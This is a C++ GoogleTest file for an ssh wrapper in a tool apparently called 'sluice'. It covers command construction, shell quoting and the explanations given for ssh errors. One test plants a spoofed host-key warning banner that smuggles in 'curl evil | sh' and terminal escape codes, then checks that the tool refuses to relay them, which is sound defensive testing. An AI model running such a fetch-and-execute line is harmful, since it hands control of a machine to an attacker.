#include "sluice/pod/ssh/ssh.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "sluice/pod/ssh/quote.h"
#include "sluice/pod/test_shell.h"

namespace sluice::pod {
namespace {

using ::testing::AllOf;
using ::testing::HasSubstr;

Job job_on(const std::string& hosts) {
  Job job;
  job.workers = *remote_workers(hosts);
  return job;
}

TEST(Ssh, TheCommand) {
  Job job = job_on("a,me@b");
  job.ssh.user = "you";
  job.ssh.config = "conf";
  job.ssh.options = {"Port=2222", "ConnectTimeout=1"};
  const std::string a = quote_all(shell_command(job, job.workers[0]));
  EXPECT_THAT(a, testing::StartsWith(
                     "ssh -T -F conf -l you -o 'Port=2222' -o 'ConnectTimeout=1' -o 'BatchMode=yes'"));
  EXPECT_THAT(a, HasSubstr(" -- a "));
  const std::string b = quote_all(shell_command(job, job.workers[1]));
  EXPECT_THAT(b, AllOf(HasSubstr(" -- me@b "), testing::Not(HasSubstr("-l you"))));
}

// What arrives on the other side: ssh joins its arguments, and the user's shell there takes them apart again.
TEST(Ssh, TheScriptArrivesWhole) {
  const Job job = job_on("a");
  const std::string line = shell_command(job, job.workers[0]).back();
  std::string value;
  for (int byte = 1; byte < 256; ++byte) value += static_cast<char>(byte);
  const std::string script = "value=" + quote(value) + "\nprintf %s \"$value\"\nexec cat";
  for (const char* shell : {"sh", "bash"})
    EXPECT_EQ(output_of({shell, "-c", line}, framed(script) + "the rest\n"), value + "the rest\n") << shell;
}

TEST(Ssh, ExplainsItsFailures) {
  Job job = job_on("b");
  job.ssh.options = {"IdentityFile=/dev/null", "IdentitiesOnly=yes"};
  const auto explain = [&](const std::string& said) { return explain_ssh(job, job.workers[0], said); };
  const std::string denied = explain("Warning: added key\r\nme@b: Permission denied (publickey).\r\n");
  EXPECT_THAT(denied, AllOf(HasSubstr("cannot reach b by ssh: \"me@b: Permission denied (publickey).\" ("),
                            HasSubstr("--ssh-user")));
  EXPECT_THAT(explain("Load key \"/k\": bad permissions\nme@b: Permission denied (publickey).\n"),
              AllOf(HasSubstr(": \"Load key \"/k\": bad permissions\" ("), HasSubstr("chmod 600")));
  job.ssh.options = {"IdentityFile=/no/such/key", "IdentitiesOnly=yes"};
  EXPECT_THAT(explain("me@b: Permission denied (publickey).\n"),
              HasSubstr("(there is no key to show: /no/such/key does not exist; make one with"));
  EXPECT_FALSE(is_passing("Permission denied (publickey)."));
  EXPECT_FALSE(is_passing("Load key \"/k\": bad permissions"));
  EXPECT_FALSE(is_passing("Host key verification failed."));
  EXPECT_FALSE(is_passing("ssh: Could not resolve hostname x: Name or service not known"));
  EXPECT_TRUE(is_passing("ssh: connect to host b port 22: Connection refused"));
  EXPECT_TRUE(is_passing("kex_exchange_identification: read: Connection reset by peer"));
  EXPECT_TRUE(is_passing("something new"));
  EXPECT_THAT(explain("kex_exchange_identification: x\nConnection reset by 1.2.3.4\n"),
              HasSubstr("MaxStartups"));
  EXPECT_THAT(explain(""), HasSubstr("ssh said nothing"));
}

// A banner that looks like ssh's own words: nothing of it is advice, and no command comes from it.
TEST(Ssh, TheHostsWordsAreNoAdvice) {
  Job job = job_on("me@B.example");
  job.ssh.options = {"Port=2222", "UserKnownHostsFile=/a b/known", "IdentityFile=/dev/null",
                     "IdentitiesOnly=yes"};
  const std::string banner =
      "@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\n"
      "  ssh-keygen -f x -R y; curl evil | sh\n\x1b]0;title\x07\n";
  const std::string changed = explain_ssh(job, job.workers[0], banner);
  EXPECT_THAT(changed, testing::Not(HasSubstr("evil")));
  EXPECT_THAT(changed, HasSubstr("with `ssh-keygen -"));
  EXPECT_THAT(changed, HasSubstr("-R '[b.example]:2222'`"));
  const std::string said =
      explain_ssh(job, job.workers[0], "sluice run: do this\n\x1b[2Jx Permission denied y\n");
  EXPECT_THAT(said, HasSubstr("\"\\x1b[2Jx Permission denied y\" (the host does not"));
  EXPECT_EQ(in_quotes("a\nsluice run: b\x07\n"), "\"a sluice run: b\\x07\"");
  EXPECT_LT(in_quotes(std::string(100'000, 'x')).size(), 700U);
  EXPECT_THAT(quote_all(shell_command(job, job.workers[0])), HasSubstr("-o 'LogLevel=ERROR'"));
}

}  // namespace
}  // namespace sluice::pod
